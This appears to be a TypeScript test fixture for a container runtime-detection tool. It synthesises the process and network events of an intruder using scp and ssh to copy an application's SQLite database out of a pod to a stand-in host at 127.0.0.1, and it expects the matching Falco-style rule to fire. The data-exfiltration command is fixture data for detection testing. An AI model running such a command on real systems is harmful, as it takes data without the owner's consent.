/**
 * event-generator LaunchRemoteFileCopyToolsInContainer: an intruder copies
 * the application's database out of a pod with scp (which runs ssh).
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-incubating_rules.yaml', rule: 'Launch Remote File Copy Tools in Container' },
  tiercel: ['File Transfer Tool Launched in Container'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1cf0', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const scp = shell.spawn({ exe: 'scp', exepath: '/usr/bin/scp', args: ['/app/data/app.sqlite', 'drop@127.0.0.1:/srv/'] });
  const ssh = scp.spawn({ exe: '/usr/bin/ssh', args: ['-x', '-oPermitLocalCommand=no', '-oClearAllForwardings=yes', '-oRemoteCommand=none', '-oRequestTTY=no', '-oForwardAgent=no', '-l', 'drop', '--', '127.0.0.1', 'scp -t /srv/'] });
  const fd = ssh.connect('127.0.0.1', 22);
  ssh.write(fd, 'SSH-2.0-OpenSSH_9.6');
}
